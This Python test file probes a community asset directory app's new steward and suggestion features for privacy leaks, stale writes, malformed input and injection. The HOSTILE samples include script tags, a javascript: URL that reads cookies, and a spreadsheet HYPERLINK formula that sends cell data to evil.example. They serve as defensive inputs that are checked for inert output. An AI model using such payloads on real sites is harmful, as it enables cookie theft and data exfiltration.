"""Issue 13, an attacker's pass over the stewards' and the public's new powers: each rule tried
until it breaks. A suggestion's contact or id is in no public answer; a steward reads no person;
retired entries are gone from every public answer; hostile text in a suggestion is shown inert and
never a 500; a stale save writes nothing; no malformed body on the new routes is a 500."""
from __future__ import annotations

import json

import pytest

from mapper.accounts import users as accounts
from mapper.directory import exports, suggestions

from tests.conftest import csrf_token_from

ENTRY = "asset-peckham-listening-hub"
CONTACT = "leak-canary-7731@example.net"
PROBLEM = "application/problem+json"
HOSTILE = {
    "script": "<script>alert('x')</script>",
    "js": "javascript:alert(document.cookie)",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "nul": "before\x00after",
    "long": "word " * 190,
}


def _public_pages(client, asset_ids):
    yield "/"
    yield "/assets"
    yield "/assets?where=SE15+5JR"
    yield "/map"
    yield "/map/assets.json"
    yield "/map/gaps.json?gap=1"
    yield "/api/assets"
    yield "/api/search?where=SE15%205JR&radius=3"
    yield "/openreferral/services?per_page=200"
    yield "/openreferral/service_at_locations?postcode=SE15%205JR&proximity=5000"
    yield "/assets/suggest"
    for asset_id in asset_ids:
        yield f"/assets/{asset_id}/suggest"
        yield f"/map/assets/{asset_id}.json"
    for service in client.get("/openreferral/services?per_page=200").get_json()["contents"]:
        yield f"/openreferral/services/{service['id']}"


def _bearer(store, logins, role):
    return {"Authorization": f"Bearer {accounts.new_token(store, logins[role][0])}"}


# ---- a suggestion's contact and id stay with the stewards ------------------------------------------
def test_a_suggestions_contact_and_id_are_in_no_public_answer_nor_export(client, changed_demo, accounts_ready):
    for body in ({"entry": ENTRY, "message": "moved", "fields": {"opening": "Wed 10:00-12:00"}, "contact": CONTACT},
                 {"message": "a new group", "fields": {"name": "Canary Walk", "postcode": "SE15 5JR"},
                  "contact": CONTACT}):
        assert client.post("/api/suggestions", json=body).status_code == 202
    ids = [s["id"] for s in suggestions.waiting(changed_demo)]
    assert len(ids) == 2
    secrets = [CONTACT, *ids, *(i.removeprefix("suggestion-") for i in ids)]
    for path in _public_pages(client, [ENTRY]):
        answer = client.get(path)
        assert answer.status_code < 500, path
        text = answer.get_data(as_text=True)
        assert not [s for s in secrets if s in text], path
    for fmt in exports.FORMATS:  # what `mapper export` writes
        text = exports.export(changed_demo, fmt)
        assert not [s for s in secrets if s in text], fmt
    # Nor to the other signed-in roles' search pages, nor the prescribers' shortlist.
    for role in ("prescriber", "organiser", "collaborative"):
        headers = _bearer(changed_demo, accounts_ready, role)
        text = client.get("/api/search?where=SE15%205JR&radius=3", headers=headers).get_data(as_text=True)
        assert CONTACT not in text and not any(i in text for i in ids)
        assert client.get(f"/directory/suggestions/{ids[0]}", headers=headers).status_code in (302, 401, 403)


# ---- a steward reads no person ---------------------------------------------------------------------
def test_a_steward_reads_no_person_anywhere(client, changed_demo, accounts_ready, sign_in):
    people = changed_demo.read_one("person_by_id", id="p-001")
    headers = _bearer(changed_demo, accounts_ready, "steward")
    for path in ("/api/people", "/api/people/p-001", "/api/people/p-001/subject-access",
                 "/api/network/findings", "/api/network/graph", "/api/audit"):
        assert client.get(path, headers=headers).status_code in (403, 404), path
    steward = sign_in("steward")
    for path in ("/organisers/", "/organisers/people/p-001", "/collaborative/", "/collaborative/network",
                 "/collaborative/export/single_points.csv", "/admin/subject-access?person=p-001",
                 "/admin/suggester-access.json?contact=07700900123", "/admin/erasures", "/admin/audit"):
        answer = steward.get(path)
        assert answer.status_code in (403, 404), (path, answer.status_code)
        assert people["name"] not in answer.get_data(as_text=True)
    # The pages a steward may open name no person: not who runs or attends an entry, nor its links.
    found = [changed_demo.read_one("person_by_id", id=f"p-{n:03d}") for n in range(1, 40)]
    names = [p["name"] for p in found if p and p.get("name") and len(p["name"]) > 5]
    assert len(names) > 10
    seen = []
    for path in ("/directory/", "/directory/entries", f"/directory/assets/{ENTRY}", f"/directory/assets/{ENTRY}/edit",
                 f"/directory/assets/{ENTRY}/merge", "/directory/assets/new"):
        page = steward.get(path)
        assert page.status_code == 200, path
        seen += [(path, n) for n in names if n and n in page.get_data(as_text=True)]
    for path in (f"/api/assets/{ENTRY}", f"/api/assets/{ENTRY}/history", "/api/organisations/org-southwark-council"):
        text = client.get(path, headers=headers).get_data(as_text=True)
        seen += [(path, n) for n in names if n and n in text]
    assert not seen, seen


# ---- retired entries are gone from every public answer ---------------------------------------------
def test_a_retired_entry_is_gone_from_the_feed_search_map_gaps_and_exports(client, changed_demo, accounts_ready):
    headers = _bearer(changed_demo, accounts_ready, "steward")
    feed = client.get("/openreferral/services?per_page=200").get_json()["contents"]
    service = next(s for s in feed if s["name"] == "Peckham Listening Hub")
    gaps_before = client.get("/map/gaps.json?gap=1").get_data(as_text=True)
    assert client.post(f"/api/assets/{ENTRY}/retire", headers=headers, json={"note": "closed"}).status_code == 200
    assert client.get(f"/openreferral/services/{service['id']}").status_code == 404
    for path in ("/openreferral/services?per_page=200", "/openreferral/service_at_locations?postcode=SE15%205JR",
                 "/api/search?where=SE15%205JR&radius=3", "/api/search?where=SE15%205JR&q=Peckham+Listening",
                 "/map/assets.json", "/api/assets", "/assets?where=SE15+5JR", "/assets?q=Peckham+Listening+Hub"):
        text = client.get(path).get_data(as_text=True)
        assert "Peckham Listening Hub" not in text and ENTRY not in text and service["id"] not in text, path
    assert client.get(f"/map/assets/{ENTRY}.json").status_code == 404
    assert client.get("/map/gaps.json?gap=1").get_data(as_text=True) != gaps_before
    for fmt in exports.FORMATS:
        assert "Peckham Listening Hub" not in exports.export(changed_demo, fmt), fmt
    # Nor can anyone suggest a correction to it, nor flag it.
    assert client.post("/api/suggestions", json={"entry": ENTRY, "message": "open again?"}).status_code == 404
    assert client.get(f"/assets/{ENTRY}/suggest").status_code == 404


# ---- hostile text is inert ---------------------------------------------------------------------------
def test_hostile_text_in_a_suggestion_is_shown_inert_and_never_a_500(client, changed_demo, sign_in):
    fields = {"description": HOSTILE["script"] + " " + HOSTILE["js"], "contact": HOSTILE["js"],
              "cost": HOSTILE["formula"], "accessibility": HOSTILE["nul"], "name": HOSTILE["long"]}
    sent = client.post("/api/suggestions", json={"entry": ENTRY, "fields": fields, "message": HOSTILE["script"],
                                                 "contact": HOSTILE["formula"]})
    assert sent.status_code == 202, sent.get_data(as_text=True)[:300]
    for raw in ("x" * 100_000, "\x00" * 5000, "<" * 4001):
        assert client.post("/api/suggestions", json={"message": raw}).status_code == 422
    page = client.get("/assets/suggest").get_data(as_text=True)
    form = client.post("/assets/suggest", data={"csrf_token": csrf_token_from(page), "message": HOSTILE["nul"],
                                                "name": HOSTILE["script"], "your_contact": HOSTILE["js"]})
    assert form.status_code == 200 and "<script>alert" not in form.get_data(as_text=True)
    steward = sign_in("steward")
    queue = steward.get("/directory/")
    assert queue.status_code == 200
    for found in suggestions.waiting(changed_demo):
        answer = steward.get(f"/directory/suggestions/{found['id']}")
        assert answer.status_code == 200
        html = answer.get_data(as_text=True)
        for text in (queue.get_data(as_text=True), html):
            assert "<script>alert" not in text and 'href="javascript:' not in text.replace("'", '"')
            assert "\x00" not in text and 'href="http://evil' not in text
        assert "&lt;script&gt;" in html
    # Accepted as written, it stays inert where the public reads it and in the spreadsheet export.
    hostile = next(s for s in suggestions.waiting(changed_demo) if s["entry"] == ENTRY)
    html = steward.get(f"/directory/suggestions/{hostile['id']}").get_data(as_text=True)
    version = steward.get(f"/api/assets/{ENTRY}").get_json()["version"]
    done = steward.post(f"/directory/suggestions/{hostile['id']}", data={
        "csrf_token": csrf_token_from(html), "action": "accept", "accept": ["description", "cost"],
        "value_description": fields["description"], "value_cost": fields["cost"], "version": str(version)})
    assert done.status_code in (302, 422), done.get_data(as_text=True)[:500]
    for path in ("/assets?where=SE15+5JR", f"/directory/assets/{ENTRY}", "/directory/entries"):
        text = steward.get(path).get_data(as_text=True)
        assert "<script>alert" not in text and 'href="javascript:' not in text, path
    for line in exports.export(changed_demo, "csv").splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), cell


# ---- a stale save writes nothing -----------------------------------------------------------------------
@pytest.mark.parametrize("path, body", [
    (f"/api/assets/{ENTRY}", {"cost": "£9"}),
    (f"/api/assets/{ENTRY}", {"name": "<b>Renamed</b>", "postcode": "QQ1 1QQ"}),
    ("/api/organisations/org-southwark-council", {"name": "Southwark Council (renamed)"}),
])
def test_a_patch_from_a_stale_version_is_a_409_and_writes_nothing(client, changed_demo, accounts_ready, path, body):
    headers = _bearer(changed_demo, accounts_ready, "steward")
    version = client.get(path, headers=headers).get_json()["version"]
    first = client.patch(path, headers=headers, json={"version": version, "note": "first",
                                                      **({"contact": "x@example.org"} if "assets" in path
                                                         else {"description": "changed first"})})
    assert first.status_code == 200, first.get_json()
    before, generation = client.get(path, headers=headers).get_json(), changed_demo.generation()
    history = client.get(path + "/history", headers=headers).get_json()["history"]
    for stale in (version, version - 1, 0, -5):
        refused = client.patch(path, headers=headers, json={"version": stale, **body})
        assert refused.status_code in (409, 422) and refused.mimetype == PROBLEM, (stale, refused.status_code)
        if stale == version:
            assert refused.status_code == 409
    assert client.get(path, headers=headers).get_json() == before
    assert client.get(path + "/history", headers=headers).get_json()["history"] == history
    assert changed_demo.generation() == generation


# ---- malformed bodies on the new routes ----------------------------------------------------------------
MALFORMED = ["", "{", "[]", "null", "1e999", '"text"', '{"version": "one"}', '{"version": 1e400}',
             '{"version": -1, "name": null}', '{"version": 1, "opening": "Wed"}', '{"version": 1, "opening": [1]}',
             '{"version": 1, "opening": [{"day": "Wed", "opens": "25:99", "closes": "x"}]}',
             '{"version": 1, "languages": "BSL"}', '{"version": 1, "themes": [null]}', '{"version": 1, "run_by": [{}]}',
             '{"version": 1, "name": "\\u0000"}', '{"version": 1, "postcode": "' + "S" * 5000 + '"}',
             '{"version": 99999999999999999999999}', '{"fields": []}', '{"fields": {"name": 5}}',
             '{"fields": {"opening": ["Wed"]}}', '{"entry": 5}', '{"entry": ["x"]}', '{"duplicate": null}',
             '{"duplicate": "' + ENTRY + '"}', '{"note": {"a": 1}}', '{"a":' * 800 + "1" + "}" * 800]


def test_no_malformed_body_on_the_new_routes_is_a_server_error(client, changed_demo, accounts_ready):
    admin = _bearer(changed_demo, accounts_ready, "admin")
    routes = [("POST", "/api/assets"), ("PATCH", f"/api/assets/{ENTRY}"), ("POST", f"/api/assets/{ENTRY}/retire"),
              ("POST", f"/api/assets/{ENTRY}/verify"), ("POST", f"/api/assets/{ENTRY}/restore"),
              ("POST", f"/api/assets/{ENTRY}/merge"), ("POST", "/api/organisations"),
              ("PATCH", "/api/organisations/org-southwark-council"),
              ("POST", "/api/organisations/org-southwark-council/retire"), ("POST", "/api/suggestions"),
              ("PATCH", "/api/assets/no-such-entry"), ("POST", "/api/assets/%00/retire")]
    failures = []
    for method, path in routes:
        for body in MALFORMED:
            for content_type in ("application/json", "text/plain"):
                answer = client.open(path, method=method, data=body, content_type=content_type, headers=admin)
                if answer.status_code >= 500 or (answer.status_code >= 400 and answer.mimetype != PROBLEM):
                    failures.append((method, path, body[:40], content_type, answer.status_code, answer.mimetype))
    assert not failures, failures[:8]
    json.dumps(failures)
